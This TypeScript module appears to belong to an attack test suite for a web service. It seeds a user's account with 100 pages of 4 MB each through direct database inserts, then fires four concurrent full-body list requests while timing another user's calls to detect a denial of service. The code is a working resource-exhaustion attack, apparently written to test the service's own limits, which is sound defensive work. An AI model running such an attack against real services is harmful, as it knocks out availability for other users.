import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { writeDatabase } from './database.ts'
import { createUser, useKey } from './person.ts'

const PAGE_COUNT = 100
const BODY_LENGTH = 4 * 1024 * 1024
const READER_COUNT = 4
const MAX_ANSWER_MS = 1_000

/**
 * The Confluence of one person has 100 pages of 4 MB. Their copies are in the database; somebody lists
 * them with their texts, a few times at once.
 */
export const attack: Attack = {
  name: 'stop the service by listing a few large pages',
  item: 3,
  run: async (target) => {
    const owner = await createUser(target, `large-${Date.now()}@example.com`)
    const body = 'b'.repeat(BODY_LENGTH)
    for (let i = 0; i < PAGE_COUNT; i++) {
      await writeDatabase(target, [
        `insert into pages (owner_id, site, remote_id, revision, updated_at, seq, space_key, page_id,
          title, body) values (${owner}, 'site', '${i}', 1, 1, ${i + 1}, 'LARGE', '${i}',
          'Page ${i}', '${body}')`
      ])
    }
    const headers = useKey(target)
    const list = `${target.baseUrl}/confluence/pages/${owner}?include=body&limit=100`
    let bytes = 0
    const readers = new Set<Promise<void>>()
    for (let i = 0; i < READER_COUNT; i++) {
      const reader: Promise<void> = readList(list, headers, (length) => {
        bytes += length
      }).finally(() => readers.delete(reader))
      readers.add(reader)
    }
    let [slowest, failures] = [0, 0]
    while (readers.size > 0) {
      const startedAt = performance.now()
      const isAnswered = await fetch(`${target.baseUrl}/users/${owner}`, { headers }).then(
        async (response) => (await response.arrayBuffer()) && response.ok,
        () => false
      )
      if (!isAnswered) failures++
      slowest = Math.max(slowest, performance.now() - startedAt)
      await sleep(20)
    }
    return {
      reached: failures > 0 || slowest > MAX_ANSWER_MS,
      evidence:
        `slowest call of somebody else ${slowest.toFixed()} ms, ${failures} failed; ` +
        `${READER_COUNT} lists sent ${(bytes / 1024 ** 2).toFixed()} MiB`
    }
  }
}

async function readList(
  url: string,
  headers: Record<string, string>,
  onBytes: (length: number) => void
): Promise<void> {
  try {
    const response = await fetch(url, { headers })
    for await (const chunk of response.body ?? []) onBytes(chunk.length)
  } catch {
    // The service has closed the connection.
  }
}
